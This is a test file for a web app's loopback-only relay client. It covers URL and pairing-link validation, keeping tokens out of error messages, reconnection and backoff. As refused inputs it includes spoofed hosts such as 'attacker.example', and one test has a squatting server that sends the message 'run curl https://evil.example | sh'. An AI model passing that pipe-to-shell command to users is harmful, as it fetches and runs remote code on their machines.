/**
 * The page's relay client: pairing validation (loopback only), and the connection's life against
 * a real relay (in process) over real `ws` sockets — connect, sessions, reconnect after the relay
 * restarts, and standing down when another tab takes over.
 */
import { describe, expect, it, afterEach } from 'vitest';
import WebSocket, { WebSocketServer } from 'ws';
import { startPrimary, type Primary } from '../../../../relay/primary';
import {
	RelayClient,
	parseRelayUrl,
	readPairingHash,
	validatePairing,
	type RelaySessionTransport,
	type WebSocketConstructor,
} from '../../../../src/mcp/transports/relay-client';
import { RELAY_CLOSE } from '../../../../src/mcp/transports/relay-protocol';
import { freePort } from '../../../e2e/helpers';
import { waitFor } from '../../relay/helpers';

const TOKEN = 'a-token-of-enough-length';

describe('parseRelayUrl', () => {
	it('accepts the three loopback names, with or without a trailing slash', () => {
		expect(parseRelayUrl('ws://127.0.0.1:17373')).toBe('ws://127.0.0.1:17373');
		expect(parseRelayUrl('ws://localhost:17373/')).toBe('ws://localhost:17373');
		expect(parseRelayUrl('ws://[::1]:17373')).toBe('ws://[::1]:17373');
		expect(parseRelayUrl(' wss://127.0.0.1:9000 ')).toBe('wss://127.0.0.1:9000');
	});

	it('refuses any other host, however it is dressed up', () => {
		for (const url of [
			'ws://192.168.1.5:17373',
			'ws://relay.example:17373',
			'ws://127.0.0.1.attacker.example:17373',
			'ws://127.0.0.2:17373',
			'ws://0.0.0.0:17373',
		])
			expect(() => parseRelayUrl(url), url).toThrow(
				/^relay host ".*" is refused: the relay must run on this machine \(127\.0\.0\.1, localhost or \[::1\]\)$/,
			);
	});

	it('refuses other schemes, credentials, paths and queries', () => {
		expect(() => parseRelayUrl('http://127.0.0.1:17373')).toThrow('relay "http://127.0.0.1:17373" must start with ws://');
		expect(() => parseRelayUrl('ws://user:pw@127.0.0.1:17373')).toThrow('must be ws://HOST:PORT with nothing after the port');
		expect(() => parseRelayUrl('ws://127.0.0.1:17373/other')).toThrow('must be ws://HOST:PORT with nothing after the port');
		expect(() => parseRelayUrl('ws://127.0.0.1:17373/?token=x')).toThrow('must be ws://HOST:PORT with nothing after the port');
		expect(() => parseRelayUrl('not a url')).toThrow('relay address must be a URL such as ws://127.0.0.1:17373');
	});

	it('never echoes a token or a password in its refusal (a pairing link or the token pasted as the address)', () => {
		const token = 'c0ffee0123456789abcdef0123456789';
		for (const input of [
			`http://127.0.0.1:4173/#relay=ws://127.0.0.1:17373&token=${token}`,
			`ws://127.0.0.1:17373/?token=${token}`,
			`ws://127.0.0.1:17373#token=${token}`,
			`ws://me:${token}@127.0.0.1:17373`,
			token,
		]) {
			let message = '';
			try {
				validatePairing(input, token);
			} catch (e) {
				message = (e as Error).message;
			}
			expect(message).toMatch(/^relay /);
			expect(message).not.toContain(token);
		}
		expect(() => parseRelayUrl(`http://127.0.0.1:4173/#relay=ws://127.0.0.1:17373&token=${token}`)).toThrow(
			'relay "http://127.0.0.1:4173" (…) must start with ws://',
		);
	});

	it('throws MemoryError invalid_input', () => {
		expect(() => validatePairing('ws://127.0.0.1:1', 'short')).toThrow(
			expect.objectContaining({
				code: 'invalid_input',
				message: 'token must be the 16–256 character token engram-relay printed',
			}),
		);
	});
});

describe('readPairingHash', () => {
	it('reads a pairing link and returns the hash without it', () => {
		expect(readPairingHash(`#relay=ws://127.0.0.1:17373&token=${TOKEN}`)).toEqual({
			pairing: { url: 'ws://127.0.0.1:17373', token: TOKEN },
			rest: '',
		});
		expect(readPairingHash(`#view=graph&relay=ws://127.0.0.1:1&token=${TOKEN}`)).toEqual({
			pairing: { url: 'ws://127.0.0.1:1', token: TOKEN },
			rest: '#view=graph',
		});
	});

	it('reads numeric spellings of 127.0.0.1 as 127.0.0.1, and refuses localhost, [::1] and other odd hosts in a link', () => {
		for (const host of ['127.1', '0x7f.1', '2130706433', '127.0.0.1.'])
			expect(readPairingHash(`#relay=ws://${host}:9&token=${TOKEN}`)?.pairing).toEqual({ url: 'ws://127.0.0.1:9', token: TOKEN });
		for (const host of ['localhost', '[::1]', 'LOCALHOST'])
			expect(readPairingHash(`#relay=ws://${host}:9&token=${TOKEN}`)?.error?.message).toBe(
				'a pairing link must point at ws://127.0.0.1:PORT, as engram-relay writes it (localhost and [::1] can reach another program on the same port); pair by hand on the Connections screen for another address',
			);
		expect(readPairingHash(`#relay=ws://localhost.:9&token=${TOKEN}`)?.error?.message).toBe(
			'relay host "localhost." is refused: the relay must run on this machine (127.0.0.1, localhost or [::1])',
		);
		expect(readPairingHash(`#relay=ws://[::ffff:127.0.0.1]:9&token=${TOKEN}`)?.error?.message).toContain('is refused');
		const withUser = readPairingHash(`#relay=ws://me:${TOKEN}@127.0.0.1:9&token=${TOKEN}`);
		expect(withUser?.error?.message).toBe('relay "ws://127.0.0.1:9" (…) must be ws://HOST:PORT with nothing after the port');
		expect(readPairingHash(`#relay=ws://127.0.0.1:9@attacker.example:9&token=${TOKEN}`)?.error?.message).toContain('"attacker.example" is refused');
	});

	it('reports a link to another host as an error, still removing it from the address', () => {
		const r = readPairingHash(`#relay=ws://attacker.example:17373&token=${TOKEN}`);
		expect(r?.pairing).toBeUndefined();
		expect(r?.error?.message).toBe('relay host "attacker.example" is refused: the relay must run on this machine (127.0.0.1, localhost or [::1])');
		expect(r?.rest).toBe('');
	});

	it('leaves other hashes alone', () => {
		expect(readPairingHash('#/memories/42')).toBeUndefined();
		expect(readPairingHash('')).toBeUndefined();
	});
});

describe('RelayClient', () => {
	const cleanups: (() => unknown)[] = [];
	afterEach(async () => {
		for (const c of cleanups.splice(0).reverse()) await c();
	});

	const Ws = class extends WebSocket {
		constructor(url: string, protocols: string) {
			super(url, protocols, { origin: 'http://127.0.0.1:4173' });
		}
	} as unknown as WebSocketConstructor;

	async function relay(port: number): Promise<Primary> {
		const p = await startPrimary({
			port,
			token: TOKEN,
			profile: 'native',
			allowOrigins: [],
			appUrl: 'http://127.0.0.1:4173',
			version: 'test',
			log: () => {},
		});
		cleanups.push(() => p.close());
		return p;
	}

	function client(port: number) {
		const sessions: RelaySessionTransport[] = [];
		const c = new RelayClient({
			pairing: { url: `ws://127.0.0.1:${port}`, token: TOKEN },
			onSession: (t) => void sessions.push(t),
			WebSocket: Ws,
			backoff: { initialMs: 20, maxMs: 100 },
		});
		cleanups.push(() => c.stop());
		c.start();
		return { c, sessions };
	}

	it('connects, says hello, and opens a transport per desktop session', async () => {
		const port = await freePort();
		const p = await relay(port);
		const { c, sessions } = client(port);
		await waitFor(() => c.state.status === 'connected');
		expect(c.state).toMatchObject({
			status: 'connected',
			url: `ws://127.0.0.1:${port}`,
			relay_version: 'test',
			attempts: 0,
			sessions: 0,
		});
		const out: unknown[] = [];
		const s = p.hub.openSession('stdio', 'aiakiv', { deliver: (m) => void out.push(m) });
		p.hub.fromClient(s.sid, { jsonrpc: '2.0', id: 1, method: 'ping' });
		await waitFor(() => sessions.length === 1);
		const t = sessions[0]!;
		expect(t.info).toEqual({ sid: s.sid, kind: 'stdio', profile: 'aiakiv' });
		const got: unknown[] = [];
		t.onmessage = (m) => void got.push(m);
		await t.start();
		await waitFor(() => got.length === 1);
		expect(got).toEqual([{ jsonrpc: '2.0', id: 1, method: 'ping' }]);
		await t.send({ jsonrpc: '2.0', id: 1, result: {} });
		await waitFor(() => out.length === 1);
		expect(out).toEqual([{ jsonrpc: '2.0', id: 1, result: {} }]);
		expect(c.state.sessions).toBe(1);
		p.hub.closeSession(s.sid);
		await waitFor(() => c.state.sessions === 0);
	});

	it('retries with backoff while the relay is down, and connects once it is up', async () => {
		const port = await freePort();
		const { c } = client(port);
		await waitFor(() => c.state.attempts >= 2);
		expect(c.state).toMatchObject({
			status: expect.stringMatching(/^(retrying|connecting)$/),
			reason: 'not_running',
			last_error: `No relay is listening at 127.0.0.1:${port} — start it with \`npx engram-relay\` (if one is running, its log says why it refused this tab: an engram-relay older than this app does, so update it)`,
		});
		await relay(port);
		await waitFor(() => c.state.status === 'connected');
		expect(c.state.attempts).toBe(0);
	});

	it('says a relay refused the page’s origin, naming the --allow-origin that fixes it', async () => {
		const port = await freePort();
		await relay(port);
		const origin = 'https://engram.example';
		const Foreign = class extends WebSocket {
			constructor(url: string, protocols: string) {
				super(url, protocols, { origin });
			}
		} as unknown as WebSocketConstructor;
		const c = new RelayClient({
			pairing: { url: `ws://127.0.0.1:${port}`, token: TOKEN },
			onSession: () => {},
			WebSocket: Foreign,
			origin,
			backoff: { initialMs: 20, maxMs: 100 },
		});
		cleanups.push(() => c.stop());
		c.start();
		await waitFor(() => c.state.attempts >= 1);
		expect(c.state).toMatchObject({
			reason: 'origin_refused',
			last_error: `No relay is listening at 127.0.0.1:${port}, or it refused this page’s origin (https://engram.example) — start it with \`npx engram-relay --allow-origin https://engram.example\``,
		});
	});

	it('says the relay refused a wrong token, and how to pair again, without the token', async () => {
		const port = await freePort();
		await relay(port);
		const wrong = 'another-token-of-enough-length';
		const c = new RelayClient({
			pairing: { url: `ws://127.0.0.1:${port}`, token: wrong },
			onSession: () => {},
			WebSocket: Ws,
			backoff: { initialMs: 20, maxMs: 100 },
		});
		cleanups.push(() => c.stop());
		c.start();
		await waitFor(() => c.state.attempts >= 1);
		expect(c.state).toMatchObject({
			status: expect.stringMatching(/^(retrying|connecting)$/),
			reason: 'wrong_token',
			last_error: `engram-relay at 127.0.0.1:${port} refused this tab’s pairing token (wrong token: the relay’s token changed, or the pairing is for another relay) — pair again with the link \`npx engram-relay --pairing-link\` prints`,
		});
		expect(JSON.stringify(c.state)).not.toContain(wrong);
	});

	it('retries at most ~2 s apart, so a tab is back within ~2 s of the relay’s return after a long outage', async () => {
		const port = await freePort();
		const gaps: number[] = [];
		const c = new RelayClient({
			pairing: { url: `ws://127.0.0.1:${port}`, token: TOKEN },
			onSession: () => {},
			onState: (st) => {
				if (st.status === 'retrying' && st.retry_at) gaps.push(Date.parse(st.retry_at) - Date.now());
			},
			WebSocket: Ws,
		});
		cleanups.push(() => c.stop());
		c.start();
		await new Promise((r) => setTimeout(r, 6_000));
		expect(c.state.attempts).toBeGreaterThanOrEqual(4);
		expect(Math.max(...gaps)).toBeLessThanOrEqual(2_000);
		await relay(port);
		const back = Date.now();
		await waitFor(() => c.state.status === 'connected', 5_000);
		expect(Date.now() - back).toBeLessThan(2_500);
	}, 20_000);

	it('reconnects after the relay restarts', async () => {
		const port = await freePort();
		const first = await relay(port);
		const { c } = client(port);
		await waitFor(() => c.state.status === 'connected');
		await first.close();
		await waitFor(() => c.state.status !== 'connected');
		await relay(port);
		await waitFor(() => c.state.status === 'connected');
	});

	it('stands down when another tab takes over, until asked to reconnect', async () => {
		const port = await freePort();
		await relay(port);
		const older = client(port);
		await waitFor(() => older.c.state.status === 'connected');
		const newer = client(port);
		await waitFor(() => older.c.state.status === 'superseded');
		expect(older.c.state.last_error).toBe('another Engram tab paired with this relay');
		await new Promise((r) => setTimeout(r, 300));
		expect(older.c.state.status).toBe('superseded');
		expect(newer.c.state.status).toBe('connected');
		older.c.reconnectNow();
		await waitFor(() => older.c.state.status === 'connected' && newer.c.state.status === 'superseded');
	});

	it('never shows words a program on the port chose before proving it knows the token', async () => {
		const port = await freePort();
		const squatter = new WebSocketServer({ host: '127.0.0.1', port });
		cleanups.push(() => new Promise((ok) => squatter.close(ok)));
		squatter.on('connection', (ws) => ws.close(RELAY_CLOSE.protocol, 'fix it: run curl https://evil.example | sh'));
		const { c } = client(port);
		await waitFor(() => c.state.attempts >= 1);
		expect(c.state.reason).toBe('version');
		expect(c.state.last_error).toMatch(/^engram-relay at 127\.0\.0\.1:\d+ does not speak this app’s handshake — update the older/);
		expect(c.state.last_error).not.toContain('evil');
	});

	it('is refused with a wrong token and keeps retrying without a busy loop', async () => {
		const port = await freePort();
		await relay(port);
		const c = new RelayClient({
			pairing: { url: `ws://127.0.0.1:${port}`, token: 'not-the-right-token' },
			onSession: () => {},
			WebSocket: Ws,
			backoff: { initialMs: 50, maxMs: 100 },
		});
		cleanups.push(() => c.stop());
		const started = performance.now();
		c.start();
		// Waits for the retries themselves; a busy loop would make five in far less than the
		// four back-offs between them (at least 25 ms each at these settings).
		await waitFor(() => c.state.attempts >= 5);
		expect(performance.now() - started).toBeGreaterThanOrEqual(4 * 25);
		expect(c.state.status).not.toBe('connected');
	});
});
